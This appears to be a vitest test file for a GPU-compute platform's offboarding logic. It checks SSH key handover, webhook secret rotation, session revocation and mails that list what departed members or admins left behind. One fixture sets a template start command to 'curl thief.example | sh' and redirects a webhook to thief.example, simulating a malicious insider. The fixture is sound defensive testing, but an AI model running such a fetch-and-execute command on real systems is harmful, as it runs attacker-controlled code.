import { afterEach, beforeEach, expect, test } from "vitest";
import { db, transaction } from "~/platform/db.server";
import { writeAudit } from "~/platform/write-audit.server";
import { addDiscount } from "~/compute/tenant-terms.server";
import { findSession, startSession } from "~/accounts/session.server";
import { removeMember } from "~/accounts/inside/teams/change-member.server";
import { switchTeam } from "~/accounts/switch-team.server";
import { addEndpoint, changeEndpoint, rotateSecret } from "~/accounts/inside/endpoints/change-endpoints.server";
import { issueEnrolmentToken } from "~/fleet/inside/nodes/issue-enrolment-token.server";
import { isOpenEnrolmentToken } from "~/fleet/find-enrolment-token.server";
import type { Cents } from "~/money/units";
import { M } from "~/messages";
import { setRole } from "~/staff/inside/set-role.server";
import { suspendUser } from "~/staff/inside/suspend-user.server";
import { deleteSshKey } from "~/compute/delete-ssh-key.server";
import { listSshKeys } from "~/compute/list-ssh-keys.server";
import { readChoiceAgain } from "~/compute/inside/reserve/read-choice-again.server";
import { storeSshKey } from "~/compute/store-ssh-key.server";
import { anEd25519Line } from "../../../support/ssh-key";
import { readLeftBehind } from "~/accounts/read-left-behind.server";
import { leftBehindLines } from "~/accounts/inside/teams/left-behind";
import { closeAccount } from "~/staff/inside/close-account.server";
import { changeTemplate, createTemplate } from "~/compute/change-template.server";
import { seedTemplates } from "../../../../prisma/seed-templates";
import { aKeepingNode, aVolume } from "../../../compute/database/volumes/a-volume";
import { switchOnAutoTopUp } from "~/payments/inside/auto-top-up/change-auto-top-up.server";
import { setBankTerms } from "~/payments/bank-terms.server";
import { planPrice } from "~/compute/inside/pricing/set-price.server";
import { dayOf } from "~/platform/day-range";
import { addVatRate, setSeller } from "~/payments/inside/vat/vat-settings.server";
import { setModelPrice } from "~/usage/set-model-price.server";
import { addChannel } from "~/staff/inside/alerts/change-channels.server";
import { createPromo, disablePromo } from "~/payments/inside/marketing/create-promo.server";
import { aMember } from "../../../support/team-world";
import { aNode, aTenant } from "../../../support/world";
import { emptyCapacity } from "../../../compute/database/capacity/reserving";
import { mailsTo } from "../../../staff/database/users/mails";
import {
  admin,
  asAdmin,
  aTask,
  aTeamAgain,
  leaver,
  leaversKey,
  managed,
  now,
  opensBy,
  owner,
  ownersKey,
  requestId,
  secretOf,
  team,
} from "./leaving-world";

beforeEach(aTeamAgain);
afterEach(emptyCapacity);

test("Starting a colleague's task again proposes one's own key and never the colleague's", async () => {
  const { id } = await storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now });
  const resvGuid = await aTask(leaver);
  const proposed = async (who: typeof owner) =>
    (await readChoiceAgain({ tenantId: owner.tenantId, userId: who.userId, resvGuid }))?.ssh_key_id;
  expect(await proposed(leaver)).toBe(String(id));
  expect(await proposed(owner)).toBe("");
});

test("A removed member's task continues under the owner's default key; without one it waits for the owner's first", async () => {
  await storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now });
  const [first, second] = [await aTask(leaver), await aTask(leaver)];
  const other = await aMember({ tenantId: owner.tenantId, role: "member" });
  const othersKey = anEd25519Line("other");
  const { id: ssh_key_id } = await storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now });
  await storeSshKey({ ...team(other), sshPublicKey: othersKey, now });
  const lent = await aTask(other, { ssh_key_id });
  await removeMember(managed());
  expect(await opensBy(first)).toBe(ownersKey);
  expect(await opensBy(second)).toBe(ownersKey);
  // The member who started it comes before the owner.
  expect(await opensBy(lent)).toBe(othersKey);
  const events = await db.query<{ text: string }>(`select text from task_event where resv_guid = $1 order by id`, [
    first,
  ]);
  expect(events.at(-1)?.text).toBe("SSH key replaced");

  await db.query(`delete from ssh_key where user_id = $1`, [owner.userId]);
  await removeMember({ ...managed(), memberId: other.userId });
  expect(await opensBy(lent)).toBe("");
  const next = anEd25519Line("next");
  await storeSshKey({ ...team(owner), sshPublicKey: next, now });
  expect(await opensBy(lent)).toBe(next);
  expect(await opensBy(first)).toBe(ownersKey);
});

test("A key belongs to a person: each has a default and at most 20, and only managers of the team remove others' keys", async () => {
  await storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now });
  expect(await opensBy(await aTask(owner))).toBe(ownersKey);
  expect(await opensBy(await aTask(leaver))).toBe(leaversKey);
  const seen = await listSshKeys(team(owner));
  expect(seen.map(({ own, isDefault, addedBy }) => ({ own, isDefault, addedBy }))).toEqual([
    { own: true, isDefault: true, addedBy: owner.email },
    { own: true, isDefault: false, addedBy: owner.email },
    { own: false, isDefault: true, addedBy: leaver.email },
  ]);
  const [mail] = await mailsTo(owner.email);
  expect(mail?.subject).toBe(`${leaver.email} added an SSH key to your team`);
  const ofOwner = seen[0]?.id ?? 0;
  await expect(deleteSshKey({ ...team(leaver), memberRole: "member", id: ofOwner })).rejects.toThrow(M.noSuchSshKey);
  await deleteSshKey({ ...team(leaver), memberRole: "admin", id: ofOwner });
  const keyless = await aMember({ tenantId: owner.tenantId, role: "member" });
  await expect(aTask(keyless)).rejects.toThrow(M.sshKeyRequired);
  const viewer = await aMember({ tenantId: owner.tenantId, role: "viewer" });
  await expect(storeSshKey({ ...team(viewer), sshPublicKey: anEd25519Line(), now })).rejects.toThrow(M.notAllowed);
});

test("A task started with a leaver's key during their removal does not keep the key", async () => {
  for (let turn = 0; turn < 5; turn += 1) {
    const person = await aMember({ tenantId: owner.tenantId, role: "member" });
    const line = anEd25519Line();
    const { id: ssh_key_id } = await storeSshKey({ ...team(person), sshPublicKey: line, now });
    await Promise.allSettled([
      aTask(owner, { ssh_key_id }),
      aTask(person),
      storeSshKey({ ...team(person), sshPublicKey: anEd25519Line(), now }),
      removeMember({ ...managed(), memberId: person.userId }),
    ]);
    const left = await db.query(
      `select from task where tenant_id = $1 and ssh_key_user_id = $2
       union all select from ssh_key where tenant_id = $1 and user_id = $2`,
      [owner.tenantId, person.userId],
    );
    expect(left).toEqual([]);
    await emptyCapacity();
    await aNode();
  }
});

test("A webhook secret known to a leaver signs for another week, and the owner gets a mail and a secret nobody else knows", async () => {
  const made = await addEndpoint(team(leaver), {
    url: "https://hooks.example/x",
    description: "",
    eventTypes: ["task.ended"],
  });
  const others = await addEndpoint(team(owner), {
    url: "https://hooks.example/y",
    description: "",
    eventTypes: ["task.ended"],
  });
  await removeMember(managed());
  const week = new Date(now.getTime() + 7 * 86_400_000);
  expect(await secretOf(made.endpointId)).toMatchObject({ old: made.secret, until: week });
  expect((await secretOf(others.endpointId)).secret).toBe(others.secret);
  const mail = (await mailsTo(owner.email)).at(-1);
  expect(mail?.subject).toBe("Replace the signing secret of your webhook endpoint at hooks.example");
  const renewed = await rotateSecret(team(owner), { endpointId: made.endpointId });
  expect(await secretOf(made.endpointId)).toMatchObject({ secret: renewed.secret, old: made.secret, until: week });
});

test("Sessions of a removed member and tokens of staff who lost the role open nothing more", async () => {
  const staff = await aTenant({ role: "admin" });
  for (const end of [
    () => setRole({ ...asAdmin(), userId: staff.userId, role: "operator" }),
    () => suspendUser({ ...asAdmin(), userId: staff.userId, reason: "test" }),
  ]) {
    await db.query(`update user_account set role = 'admin', state = 'active' where id = $1`, [staff.userId]);
    const { token } = await issueEnrolmentToken({ clusterName: "fra1", userId: staff.userId, requestId, now });
    expect(await isOpenEnrolmentToken({ token, now })).toBe(true);
    await end();
    expect(await isOpenEnrolmentToken({ token, now })).toBe(false);
  }
  const started = await startSession({ userId: leaver.userId, remember: false, ip: "", userAgent: "", now });
  await switchTeam({ sessionId: started.session.sessionId, tenantId: owner.tenantId });
  await removeMember(managed());
  expect((await findSession({ cookie: started.cookie, now }))?.account.tenantId).toBe(leaver.tenantId);
});

test("Promo codes that a former admin made and that still give something are named to the other admins", async () => {
  const staff = await aTenant({ role: "admin" });
  const promo = {
    name: "x",
    kind: "balance_credit" as const,
    value: 100_000,
    duration: "once" as never,
    expiresAt: null,
  };
  const make = async (code: string, maxRedemptions: number | null = null) =>
    await createPromo({ ...promo, code, maxRedemptions, actorId: staff.userId, requestId, now });
  await make("BACKDOOR");
  await make("TWICE", 2);
  await make("GONE");
  await disablePromo({ code: "GONE", actorId: admin.userId, requestId, now });
  await setRole({ ...asAdmin(), userId: staff.userId, role: "customer" });
  const mail = (await mailsTo(admin.email)).find(({ subject }) => subject.startsWith("Replace the keys"));
  expect(mail?.text).toContain("- the promo code BACKDOOR, without a limit of uses\n");
  expect(mail?.text).toContain("- the promo code TWICE, 2 uses left\n");
  expect(mail?.text).not.toContain("GONE");
});

test("Discounts that a former admin gave, and schedulers whose tokens they entered, are named to the other admins", async () => {
  const staff = await aTenant({ role: "admin" });
  const given = { actorId: staff.userId, userId: owner.userId, tenantId: owner.tenantId, gpuType: "", requestId };
  const later = (days: number) => new Date(now.getTime() + days * 86_400_000);
  const give = async (percent: number, fromAt: Date, gpuType = "") =>
    await transaction((tx) => addDiscount(tx, { ...given, gpuType, percent, fromAt, now }));
  await give(5, now);
  await give(90, new Date(now.getTime() + 1000));
  await give(0, later(60));
  await give(99, later(30), "a5000");
  await db.query(
    `with made as (insert into engine (kind, url) values ('slurm', 'https://slurm.test') returning id)
     update cluster set engine_id = made.id from made where name = 'fra1'`,
  );
  const renewed = { action: "engine.renew-token", target: "cluster:fra1" };
  await transaction((tx) => writeAudit({ ...renewed, userId: staff.userId, requestId, now }, tx));
  const terms = { allowed: true, days: 14, limitCents: 100_000n as Cents, creditWhen: "issued" } as const;
  const act = { actorId: staff.userId, userId: owner.userId, tenantId: owner.tenantId, requestId, now };
  await transaction((tx) => setBankTerms(tx, { ...act, ...terms }));
  const seller = { name: "", address: "", country: "", vatNumber: "", chargesVat: false };
  await setSeller({ ...seller, bankDetails: "Mine 1", userId: staff.userId, requestId, now });
  const channel = { name: "Mine", kind: "webhook", target: "https://mine.example/x?secret", hourly_max: "5" };
  await addChannel({ userId: staff.userId, requestId, now }, channel);
  await setRole({ ...asAdmin(), userId: staff.userId, role: "customer", now: later(1) });
  const mail = (await mailsTo(admin.email)).find(({ subject }) => subject.startsWith("Replace the keys"));
  const page = `/users/view/${owner.userId}`;
  expect(mail?.text).toMatch(new RegExp(`- invoices by bank transfer for ${owner.tenantName}: .*${page}\n`));
  expect(mail?.text).toMatch(/- the bank details on invoices, which they changed: .*\/dashboard\/vat\n/);
  await db.query(`update seller set bank_details = ''`);
  expect(mail?.text).toMatch(/- the channel of alerts Mine, to mine.example: .*\n/);
  expect(mail?.text).not.toContain("?secret");
  expect(mail?.text).toMatch(new RegExp(`- the discount of 90% for all GPUs of ${owner.tenantName}, from .*${page}\n`));
  expect(mail?.text).toMatch(
    new RegExp(`- the discount of 99% for a5000 GPUs of ${owner.tenantName}, from .*${page}\n`),
  );
  expect(mail?.text).not.toMatch(/ (0|5)%/);
  expect(mail?.text).toContain("- the token of the scheduler of fra1\n");
  await db.query(`update cluster set engine_id = null`);
});

test("Prices and rates of VAT that a former admin planned, and that still come, are named to the other admins", async () => {
  const staff = await aTenant({ role: "admin" });
  const [price] = await db.query<{ version: number }>(`select version from price where gpu_type = 'a5000'`);
  const act = { userId: staff.userId, requestId, now };
  const hence = (hours: number) => new Date(now.getTime() + hours * 3_600_000);
  const plan = { ...act, gpuType: "a5000", version: price?.version ?? null };
  await planPrice({ ...plan, pphCents: 1, appliesAt: hence(48) });
  await planPrice({ ...plan, pphCents: 77, appliesAt: hence(72) });
  await db.query(`update price_change set state = 'withdrawn' where pph_cents = 77`);
  const figures = { prompt: 5n, generated: 5n, cacheRead: 5n, cacheCreation: 5n };
  await setModelPrice({ model: "soon", figures, fromAt: hence(48), by: staff.userId, requestId, now });
  await setModelPrice({ model: "now", figures, by: staff.userId, requestId, now });
  await addVatRate({ ...act, country: "DE", from: dayOf(hence(48)), rateBp: 5000 });
  await addVatRate({ ...act, country: "FR", from: dayOf(now), rateBp: 2000 });
  await setRole({ ...asAdmin(), userId: staff.userId, role: "customer" });
  const mail = (await mailsTo(admin.email)).findLast(({ subject }) => subject.startsWith("Replace the keys"));
  expect(mail?.text).toMatch(/- the planned price of a5000, \$0.01 from .*\/dashboard\/catalogue\n/);
  expect(mail?.text).toMatch(/- the planned VAT of 50% in DE, from .*\/dashboard\/vat\n/);
  expect(mail?.text).toMatch(/- the planned price of the model soon, from .*\/dashboard\/catalogue\n/);
  expect(mail?.text).not.toMatch(/0\.77|FR|model now/);
  await db.query(`delete from price_change where state <> 'done'`);
  await db.query(`delete from vat_rate`);
  await db.query(`delete from model_price where created_by = $1`, [staff.userId]);
});

test("Channels that a former operator led somewhere are named to the admins", async () => {
  const staff = await aTenant({ role: "operator" });
  const channel = { name: "Theirs", kind: "mail", target: "me@theirs.example", hourly_max: "5" };
  await addChannel({ userId: staff.userId, requestId, now }, channel);
  await setRole({ ...asAdmin(), userId: staff.userId, role: "support" });
  const [mail] = (await mailsTo(admin.email)).filter(({ text }) => text.includes("the channel of alerts Theirs"));
  expect(mail?.text).toContain(`${staff.email} is no longer a Millrace operator, and knows these:`);
  expect(mail?.text).toMatch(/ to me@theirs.example: .*\/dashboard\/alerts\/channels\n/);
});

test("The owner learns what a removed member created and its cost; those who manage the team learn it beforehand", async () => {
  await storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now });
  await aKeepingNode({ now });
  await seedTemplates({ now });
  const resvGuid = await aTask(leaver, { task_name: "train" });
  await aVolume({ ...team(leaver), gb: 100, name: "data" });
  await createTemplate(team(leaver), { name: "mine", image: "pytorch" } as never);
  await addEndpoint(team(leaver), { url: "https://hooks.example/x", description: "", eventTypes: ["task.ended"] });
  const lines = [
    "1 task for $0.95 an hour: train",
    "1 volume for $10.00 a month: data",
    "1 template: mine",
    "1 webhook endpoint: hooks.example",
  ];
  const left = await readLeftBehind(db, owner.tenantId);
  expect(leftBehindLines(left.get(leaver.userId) ?? [])).toEqual(lines);
  expect(left.get(owner.userId)).toBeUndefined();
  await removeMember(managed());
  const mail = (await mailsTo(owner.email)).find(({ subject }) => subject.startsWith("What a former member"));
  for (const line of lines) expect(mail?.text).toContain(line);
  expect(mail?.text).toContain(leaver.email);
  // It keeps running, because it belongs to the team.
  expect(await opensBy(resvGuid)).toBe(ownersKey);
});

test("So does the owner of what a removed member changed last: where webhooks go, what templates start, what tops up", async () => {
  await seedTemplates({ now });
  await createTemplate(team(owner), { name: "theirs", image: "pytorch" } as never);
  await changeTemplate({ ...team(leaver), named: "theirs" }, { start_command: "curl thief.example | sh" } as never);
  const hook = { url: "https://hooks.example/x", description: "", eventTypes: ["task.ended"] };
  const { endpointId } = await addEndpoint(team(owner), hook);
  await changeEndpoint(team(leaver), { endpointId, url: "https://thief.example/x" });
  await rotateSecret(team(owner), { endpointId });
  const own = await addEndpoint(team(leaver), hook);
  await changeEndpoint(team(owner), { ...own, url: "https://ours.example/x" });
  await db.query(
    `insert into card (pm_id, tenant_id, brand, last4, exp_month, exp_year, is_default, added_at, user_id)
     values ('pm_owners', $1, 'visa', '4242', 12, 2034, true, now(), $2)`,
    [owner.tenantId, owner.userId],
  );
  const amounts = { thresholdCents: 1_000n as Cents, cents: 5_000n as Cents, monthCapCents: 50_000n as Cents };
  await switchOnAutoTopUp({ ...team(leaver), ...amounts });
  await removeMember(managed());
  const mail = (await mailsTo(owner.email)).find(({ subject }) => subject.startsWith("What a former member"));
  for (const line of [
    "1 template: theirs",
    "1 webhook endpoint: thief.example",
    "1 automatic top-up: $50.00 below $10.00, up to $500.00 a month",
  ])
    expect(mail?.text).toContain(`- ${line}\n`);
});

test("Tasks of a limited member who deletes their account stop, because no limit counts them any more", async () => {
  await db.query(`update member set limit_cents = 10000 where tenant_id = $1 and user_id = $2`, [
    owner.tenantId,
    leaver.userId,
  ]);
  await storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now });
  const resvGuid = await aTask(leaver);
  await closeAccount(asAdmin());
  const [task] = await db.query<{ state: string; reason: string }>(
    `select state, reason from task where resv_guid = $1`,
    [resvGuid],
  );
  expect(task).toEqual({ state: "stopping", reason: "member left" });
});
